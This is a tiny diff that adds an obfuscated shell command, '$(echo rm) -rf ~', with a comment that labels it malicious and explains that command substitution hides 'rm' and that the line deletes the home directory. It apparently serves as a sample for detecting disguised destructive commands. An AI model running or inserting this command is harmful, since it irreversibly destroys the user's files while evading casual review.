@@ -1,0 +1,2 @@
+# Malicious, obfuscated: the command name comes from $(echo rm); deletes the home directory.
+$(echo rm) -rf ~
